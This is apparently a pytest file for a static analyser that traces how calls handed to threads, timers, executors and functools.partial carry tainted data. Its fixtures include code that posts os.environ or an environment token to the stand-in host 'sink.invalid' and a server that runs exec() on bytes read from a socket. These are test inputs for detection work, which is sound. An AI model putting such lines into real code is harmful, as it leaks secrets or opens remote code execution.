"""Functions that are handed over with what they are called with."""

import ast

import pytest

from pratique.analysis.facts import Capability, Taint
from pratique.analysis.languages.python.handed_over import handed_over
from pratique.analysis.languages.python.scopes import Block, Called, Scope
from tests.analysis.languages.python.reading import flows

_SEND = (
    "import os, threading, asyncio, functools, requests\ndef send(data):\n"
    "  requests.post('https://sink.invalid/', json=data)\ndef go(pool, loop, o):\n  "
)


def over(source: str) -> str | None:
    """The call that is handed over, as source."""
    tree = ast.parse(source, mode="eval")
    assert isinstance(tree.body, ast.Call)
    found = handed_over(Called(tree.body, Scope(tree), Block()))
    return ast.unparse(found.node) if found is not None else None


@pytest.mark.parametrize(
    ("source", "told"),
    [
        ("Thread(target=f, args=(a, b))", "f(a, b)"),
        ("threading.Thread(target=self.f, args=[a], kwargs={'k': b})", "self.f(a, k=b)"),
        ("Timer(5, f, [a])", "f(a)"),
        ("Timer(5, f, args=(a,), kwargs={'k': b})", "f(a, k=b)"),
        ("pool.submit(f, a, k=b)", "f(a, k=b)"),
        ("pool.apply_async(f, (a,))", "f(a)"),
        ("loop.run_in_executor(None, f, a)", "f(a)"),
        ("loop.call_later(5, f, a)", "f(a)"),
        ("asyncio.to_thread(f, a)", "f(a)"),
        ("_thread.start_new_thread(f, (a,))", "f(a)"),
        ("atexit.register(f, a)", "f(a)"),
        ("weakref.finalize(o, f, a)", "f(a)"),
        ("functools.partial(f, a)", "f(a)"),
        ("Thread(target=f)", None),
        ("Thread(target=lambda: f(a), args=(a,))", None),
        ("Thread(target=f, args=a)", None),
        ("Thread(target=f, kwargs={**a})", None),
        ("pool.submit(f)", None),
        ("loop.call_later(5)", None),
        ("g(f, a)", None),
        ("g(k=f, args=(a,))", None),
    ],
)
def test_the_call_that_will_be_made_is_told(source: str, told: str | None) -> None:
    assert told == over(source)


@pytest.mark.parametrize(
    "source",
    [
        "threading.Thread(target=send, args=(dict(os.environ),)).start()",
        "threading.Thread(target=send, kwargs={'data': dict(os.environ)}).start()",
        "threading.Timer(9, send, [dict(os.environ)]).start()",
        "pool.submit(send, dict(os.environ))",
        "loop.run_in_executor(None, send, dict(os.environ))",
        "functools.partial(send, dict(os.environ))()",
    ],
)
def test_what_goes_into_a_thread_is_followed(source: str) -> None:
    assert any(
        sink is Capability.NETWORK and Taint.WHOLE_ENVIRONMENT in taints
        for sink, _, taints in flows(_SEND + source)
    )
    assert [] == flows(_SEND + source.replace("dict(os.environ)", "o"))


def test_what_serves_a_connection_is_given_its_two_ends() -> None:
    source = "import asyncio\nasync def one(reader, writer):\n  exec(await reader.read(9))\nasync def main():\n  await asyncio.start_server(one, 'h', 1)\nasyncio.run(main())"
    assert [(Capability.CODE, "exec", {Taint.NETWORK})] == flows(source)
    assert [] == flows(source.replace("asyncio.start_server", "acme.start_server").replace("(9)", "()"))


@pytest.mark.parametrize(
    "source",
    [
        "Thread(target=requests.post, args=('https://sink.invalid/',), kwargs={'data': D}).start()",
        "pool.submit(requests.post, 'https://sink.invalid/', D)",
        "functools.partial(requests.post, 'https://sink.invalid/', json=D)",
    ],
)
def test_a_call_of_a_library_that_is_handed_over_sends_what_it_is_given(source: str) -> None:
    head = "import os, functools, requests\nfrom threading import Thread\nD = os.environ['A_TOKEN']\n"
    found = flows(head + source)

    assert [(Capability.NETWORK, "requests.post")] == [flow[:2] for flow in found]
    assert Taint.ENVIRONMENT in found[0][2]
